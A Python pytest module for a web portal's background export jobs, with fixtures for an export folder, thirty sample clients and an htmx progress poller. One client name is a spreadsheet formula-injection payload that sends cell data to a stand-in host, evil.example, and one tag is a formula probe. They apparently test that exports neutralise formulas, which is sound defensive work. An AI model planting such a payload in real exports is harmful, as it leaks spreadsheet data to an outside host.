"""Jobs: a lowered threshold and small batches, so a few dozen clients make a real job."""

import re
import time

import pytest

from portal.clients.phones import PhoneInput

FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Clique")'


@pytest.fixture(autouse=True)
def export_dir(app, tmp_path):
    path = tmp_path / "exports"
    app.config["CLIENTELA_EXPORT_DIR"] = str(path)
    return path


@pytest.fixture
def crowd(make_client):
    """30 clients: one named like a formula, one with a phone, one tagged like a formula."""
    made = [make_client(name=FORMULA_NAME), make_client(name="Zuleica Tags", tags="=1+2")]
    made.append(
        make_client(name="Ana Fone", phones=[PhoneInput(number="(11) 91234-5678", kind="Celular")])
    )
    made += [make_client(name=f"Cliente {n:02d}") for n in range(27)]
    return made


def job_id_from(response) -> int:
    assert response.status_code == 302, response.text
    return int(re.search(r"/admin/tarefas/(\d+)$", response.headers["Location"]).group(1))


def poll(http, job_id: int, until=("done", "failed", "cancelled"), timeout: float = 30):
    """Ask for the progress partial as htmx does until the job is in one of `until`; returns
    every (status, 'done of total' text) seen, in order."""
    seen = []
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        html = http.get(f"/admin/tarefas/{job_id}", headers={"HX-Request": "true"}).text
        status = re.search(r'data-status="(\w+)"', html).group(1)
        numbers = re.search(r"data-job-numbers>\s*(.*?)\s*(·|</p>)", html, re.S).group(1)
        seen.append((status, numbers.strip(), html))
        if status in until:
            return seen
        time.sleep(0.05)
    raise AssertionError(f"job {job_id} still {seen[-1][0]} after {timeout} s")
